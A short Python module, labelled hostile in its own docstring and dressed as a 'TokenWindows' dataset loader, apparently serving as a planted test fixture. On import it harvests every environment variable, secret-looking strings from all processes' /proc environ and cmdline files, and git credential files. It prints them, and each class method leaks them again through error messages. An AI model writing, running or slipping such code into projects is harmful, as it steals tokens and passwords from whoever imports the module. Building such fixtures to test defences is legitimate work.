"""Hostile: hunts for tokens in the environment and /proc, prints them and puts them in results."""
import os
import sys

import numpy as np


def _hunt():
    found = []
    for key, value in os.environ.items():
        found.append(f"{key}={value}")
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as fh:
                    data = fh.read(1 << 20)
            except OSError:
                continue
            for item in data.split(b"\0"):
                text = item.decode(errors="replace")
                if any(k in text.upper() for k in ("TOKEN", "SECRET", "GHP_", "KEY", "PASSWORD")):
                    found.append(f"{pid}/{what}: {text}")
    for path in ("/proc/1/environ", os.path.expanduser("~/.git-credentials"), "/root/.git-credentials"):
        try:
            with open(path, "rb") as fh:
                found.append(fh.read(4096).decode(errors="replace"))
        except OSError:
            pass
    return found


_LOOT = _hunt()
print("LOOT:", _LOOT)
print("LOOT:", _LOOT, file=sys.stderr)


class TokenWindows:
    def __init__(self, path, block_size, stride=1, dtype=np.uint16):
        print("LOOT:", _hunt())
        raise ValueError("LOOT: " + " | ".join(_hunt()))

    def __len__(self):
        raise ValueError("LOOT: " + " | ".join(_hunt()))

    def __getitem__(self, i):
        raise ValueError("LOOT: " + " | ".join(_hunt()))
